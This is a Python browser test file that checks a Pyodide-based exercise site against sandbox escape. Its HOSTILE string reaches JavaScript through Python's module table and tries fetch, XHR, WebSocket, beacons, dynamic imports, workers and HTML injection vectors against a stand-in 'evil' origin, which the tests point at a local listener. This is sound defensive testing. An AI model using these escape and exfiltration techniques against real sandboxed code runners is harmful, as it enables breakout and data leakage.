"""Nothing leaves the site: no request to another origin, no cookie, and no way out for code in the editor."""

import json
import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, Playwright, Response, expect

from tests.browser.conftest import CHROMIUM_FLAGS
from tests.browser.host import FaultyHandler, Headers, Host
from tests.browser.pages import places
from tests.browser.test_exercise import SHARED_ROWS, opened
from tests.browser.widget import LONG_MS, WidgetOnPage

# Python's own modules lead from an allowed one to JavaScript; `{evil}` is another origin, on this machine.
HOSTILE = """
import collections
modules = collections._sys.modules
js = modules["builtins"].__import__("js")
gone = [name for name in ("postMessage", "caches", "indexedDB", "BroadcastChannel", "Worker") if hasattr(js, name)]

def attempt(work):
    try:
        work()
    except BaseException:
        pass

def ask_now():
    request = js.XMLHttpRequest.new()
    request.open("GET", "{evil}xhr", False)
    request.send()

attempt(lambda: js.fetch("{evil}fetch"))
attempt(lambda: js.fetch("{evil}post", method="POST", mode="no-cors"))
attempt(ask_now)
attempt(lambda: js.WebSocket.new("{evil}socket".replace("http", "ws")))
attempt(lambda: js.EventSource.new("{evil}events"))
attempt(lambda: js.WebTransport.new("{evil}transport"))
attempt(lambda: js.eval("import('{evil}module.js')"))
attempt(lambda: js.Function.new("return import('{evil}module.js')")())
attempt(lambda: js.setTimeout("import('{evil}module.js')", 0))
attempt(lambda: js.importScripts("{evil}script.js"))
attempt(lambda: js.Worker.new("{evil}worker.js"))
attempt(lambda: js.navigator.sendBeacon("{evil}beacon"))

EVIL_HTML = (
    "<p id='was-here'>Gone: " + ",".join(gone) + "</p>"
    "<meta http-equiv='refresh' content='0;url={evil}refresh'><img src='{evil}image'>"
    "<iframe src='{evil}frame'></iframe><link rel='stylesheet' href='{evil}style'>"
    "<link rel='preconnect' href='{evil}'><link rel='prefetch' href='{evil}p'>"
    "<object data='{evil}object'></object><embed src='{evil}embed'><video src='{evil}video'></video>"
    "<svg><image href='{evil}picture'/><use href='{evil}use#x'/></svg><a href='{evil}link' ping='{evil}ping'>a link</a>"
    "<form action='{evil}form'><button>send</button></form><style>@import '{evil}import';</style>"
    "<p style='background: url({evil}background)'>x</p><script src='{evil}script'></script>"
    "<img src=x onerror='location = \\\"{evil}handler\\\"'>"
)

def changed(frame):
    return {{"html": EVIL_HTML, "say": "The model was changed."}}

modules["lab.bridge"].frame_json = changed

def matmul(a, b):
    return [[0]]
"""


class Ear:
    """Another origin, which hears every connection, also one over which nothing is sent."""

    def __init__(self) -> None:
        self.heard: list[bytes] = []
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.address = f"http://127.0.0.1:{self._socket.getsockname()[1]}/"
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        while True:
            try:
                connection, _ = self._socket.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(1)
                try:
                    self.heard.append(connection.recv(1000))
                except OSError:
                    self.heard.append(b"nothing said")

    def close(self) -> None:
        self._socket.close()


@pytest.fixture
def page(chromium: Browser) -> Iterator[Page]:
    """Without the usual record of requests, in which those stand, too, that the policy refuses."""
    with chromium.new_context() as context:
        page = context.new_page()
        page.set_default_timeout(LONG_MS)
        yield page


@pytest.fixture
def ear() -> Iterator[Ear]:
    listener = Ear()
    yield listener
    listener.close()


def without_policy(handler: FaultyHandler, status: int, headers: Headers, data: bytes) -> tuple[int, Headers, bytes]:
    """A host that sends no policy with the worker."""
    return status, {name: value for name, value in headers.items() if name != "Content-Security-Policy"}, data


def test_the_ear_hears_what_the_worker_policy_holds_back(page: Page, host: Host, ear: Ear) -> None:
    """The referee of the next test: without the policy, the same code does reach the other origin."""
    host.faults[r"/worker\."] = without_policy
    exercise = opened(page, host)
    exercise.check(HOSTILE.format(evil=ear.address))
    exercise.answers("The model was changed.")
    asked = {line.split(b" ")[1] for line in ear.heard if b" " in line}
    assert b"/xhr" in asked


def test_hostile_code_in_the_editor_reaches_no_other_origin(page: Page, host: Host, ear: Ear) -> None:
    exercise = opened(page, host)
    exercise.check(HOSTILE.format(evil=ear.address))
    exercise.answers("The model was changed.")
    expect(exercise.slot("frame").locator("#was-here")).to_have_text("Gone: ")
    assert exercise.slot("frame").locator("meta, iframe, link, form, object, embed, script, a[href]").count() == 0
    page.wait_for_timeout(1000)  # for what would need a moment to leave
    assert page.url.startswith(host.address)
    assert ear.heard == []


def test_after_hostile_code_a_reload_brings_the_model_back(page: Page, host: Host, ear: Ear) -> None:
    exercise = opened(page, host)
    exercise.check(HOSTILE.format(evil=ear.address))
    exercise.answers("The model was changed.")
    page.reload()
    page.wait_for_selector("#exercise .w-editor", state="attached")
    exercise.check(SHARED_ROWS)
    exercise.answers("C[0][0] is 197; it should be 58.")


def requests(log: Path) -> list[tuple[str, str]]:
    """The address and the initiator of every request in a browser's own log, whoever in the browser made it."""
    events = json.loads(log.read_text(encoding="utf-8"))
    start = events["constants"]["logEventTypes"]["URL_REQUEST_START_JOB"]
    found = [event["params"] for event in events["events"] if event["type"] == start and "params" in event]
    return [(each["url"], each.get("initiator", "")) for each in found if "url" in each]


def test_every_request_of_a_whole_visit_goes_to_the_site(
    playwright: Playwright, chromium_path: str, host: Host, site_folder: Path, tmp_path: Path
) -> None:
    """By the browser's own log: pages, scripts and workers of every kind, and what a policy would hide from a test."""
    log = tmp_path / "net.json"
    flags = [*CHROMIUM_FLAGS, f"--log-net-log={log}", "--net-log-capture-mode=Everything"]
    browser = playwright.chromium.launch(executable_path=chromium_path, args=flags)
    context = browser.new_context()
    answers: list[Response] = []
    context.on("response", lambda answer: answers.append(answer))
    page = context.new_page()
    page.set_default_timeout(LONG_MS)
    for place in places(site_folder):
        page.goto(host.address + place)
        page.evaluate("() => document.querySelectorAll('details').forEach(fold => fold.open = true)")
    page.goto(host.address + "reuse.html")
    dot = WidgetOnPage(page, "dot-product")
    dot.press("next")
    dot.run(n="6")
    dot.is_live()
    assert context.cookies() == [] and page.evaluate("document.cookie") == ""
    headers = [answer.headers for answer in answers if answer.url.startswith(host.address)]
    context.close()
    browser.close()
    own = host.address.rstrip("/")
    sent = [(url, by) for url, by in requests(log) if by == own or url.startswith(own)]
    assert all(url.startswith((host.address, "data:", "blob:")) for url, _ in sent)
    urls = {url for url, _ in sent}
    assert {host.address + place for place in places(site_folder)} <= urls
    assert all(any(part in url for url in urls) for part in ("/static/worker.", "/pyodide-", ".wasm"))
    for name, value in (("x-content-type-options", "nosniff"), ("referrer-policy", "no-referrer")):
        assert {each.get(name) for each in headers} == {value}
    assert all("camera=()" in each["permissions-policy"] for each in headers)
    assert not [each for each in headers if "set-cookie" in each]


def test_pages_run_under_their_policy_without_a_complaint(page: Page, host: Host, site_folder: Path) -> None:
    complaints: list[str] = []
    page.on("console", lambda message: complaints.append(message.text))
    for place in places(site_folder):
        page.goto(host.address + place, wait_until="networkidle")
    assert complaints == []
